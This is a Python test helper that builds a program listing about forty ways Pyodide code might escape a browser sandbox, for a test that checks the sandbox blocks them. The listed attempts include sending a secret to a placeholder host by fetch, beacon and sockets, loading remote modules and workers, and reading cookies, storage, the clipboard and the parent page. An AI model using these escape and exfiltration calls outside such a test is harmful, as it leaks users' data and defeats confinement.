"""What a program in the sandbox tries in order to get out, in Python that may await. `URL` is
another host, `OWN` this site's, `WS` and `NAME` the other host's address for sockets."""

PREPARED = """
import asyncio, json, js, pyodide_js
from pyodide.code import run_js
from pyodide.ffi import to_js
def options(**values): return to_js(values, dict_converter=js.Object.fromEntries)
async def socket(kind):
    it = kind.new(WS)
    await asyncio.sleep(0.3)
    it.send(SECRET)
told, attempts = {}, []
"""
ATTEMPTS = {
    "fetch": "await js.fetch(URL + 'fetch')",
    "fetch without CORS": "await js.fetch(URL + 'opaque', options(mode='no-cors', keepalive=True))",
    "fetch of the site": "(await (await js.fetch(OWN + 'index.html')).text())[:20]",
    "pyfetch": "from pyodide.http import pyfetch\nawait pyfetch(URL + 'pyfetch')",
    "open_url": "from pyodide.http import open_url\nopen_url(URL + 'open_url')",
    "urllib": "import urllib.request\nurllib.request.urlopen(URL + 'urllib', timeout=1)",
    "XHR": "it = js.XMLHttpRequest.new()\nit.open('GET', URL + 'xhr', False)\nit.send()",
    "WebSocket": "await socket(js.WebSocket)",
    "WebSocketStream": "await socket(js.WebSocketStream)",
    "EventSource": "js.EventSource.new(URL + 'events')\nawait asyncio.sleep(0.2)",
    "WebTransport": "await js.WebTransport.new(URL.replace('http:', 'https:')).ready",
    "WebRTC": "js.RTCPeerConnection.new(options(iceServers=[{'urls': 'stun:' + NAME}]))",
    "beacon": "js.navigator.sendBeacon(URL + 'beacon', SECRET)",
    "socket": "import socket as s\nhost, port = NAME.split(':')\n"
    "it = s.create_connection((host, int(port)), 1)\nit.send(b'out')\nawait asyncio.sleep(0.3)",
    "import": "await run_js(\"import('\" + URL + \"module.mjs')\")",
    "import of data": "await run_js(\"import('data:text/javascript,export default 1')\")",
    "importScripts": "js.importScripts(URL + 'script.js')",
    "eval": "js.eval('1')",
    "Function": "js.Function.new('return 1')()",
    "package": "await pyodide_js.loadPackage(URL + 'leak-1.0-py3-none-any.whl')\n1 / 0",
    "font": "await js.FontFace.new('f', 'url(' + URL + 'font.woff2)').load()",
    "worker": "js.Worker.new(URL + 'worker.js')\nawait asyncio.sleep(0.2)\n1 / 0",
    "worker of data": "js.Worker.new('data:text/javascript,fetch(\"' + URL + '\")')\n"
    "await asyncio.sleep(0.2)\n1 / 0",
    "navigation": "js.location.href = URL + 'go'\nawait asyncio.sleep(0.2)\n1 / 0",
    "popup": "js.open(URL + 'popup')",
    "notification": "js.Notification.new(SECRET)",
    "parent": "js.parent.document.title",
    "top": "js.top.location.href",
    "document": "js.document.body.innerHTML",
    "localStorage": "js.localStorage.getItem('secret')",
    "sessionStorage": "js.sessionStorage.getItem('secret')",
    "cookie": "await js.cookieStore.getAll()",
    "IndexedDB": "it = js.indexedDB.open('secret')\nawait asyncio.sleep(0.2)\nit.result.name",
    "databases": "await js.indexedDB.databases()",
    "caches": "await js.caches.keys()",
    "OPFS": "await js.navigator.storage.getDirectory()",
    "storage buckets": "await js.navigator.storageBuckets.keys()",
    "locks": "await js.navigator.locks.query()",
    "service worker": "await js.navigator.serviceWorker.getRegistrations()",
    "GPU": "await js.navigator.gpu.requestAdapter()",
    "clipboard": "await js.navigator.clipboard.readText()",
    "broadcast": "it = js.BroadcastChannel.new('escape')\nit.postMessage(SECRET)\n"
    "await asyncio.sleep(0.3)\n1 / 0",
}  # fmt: skip
HARMLESS = {"socket"}  # Emscripten says that it is connected; nothing is sent
# Where only the policy stands, these are made and then fail without a word.
SILENT = frozenset({"EventSource", "WebSocket", "notification"})


def program(url: str, own: str, name: str) -> str:
    """All attempts side by side; its value is {name: what was raised, or "passed"}."""
    places = {"URL": url, "OWN": own, "NAME": name, "WS": f"ws://{name}/ws", "SECRET": "s3cret"}
    lines = [f"{key} = {value!r}" for key, value in places.items()]
    lines += PREPARED.splitlines()
    for title, code in ATTEMPTS.items():
        body = [f"        {line}" for line in code.splitlines()]
        lines += ["async def attempt():", "    async def inside():", *body, "    try:"]
        lines += [
            "        await asyncio.wait_for(inside(), 2)",
            f"        told[{title!r}] = 'passed'",
            "    except BaseException as error:",
            f"        told[{title!r}] = str(error)[:200] or type(error).__name__",
            "attempts.append(attempt())",
        ]
    return "\n".join([*lines, "await asyncio.gather(*attempts)", "json.dumps(told)"])
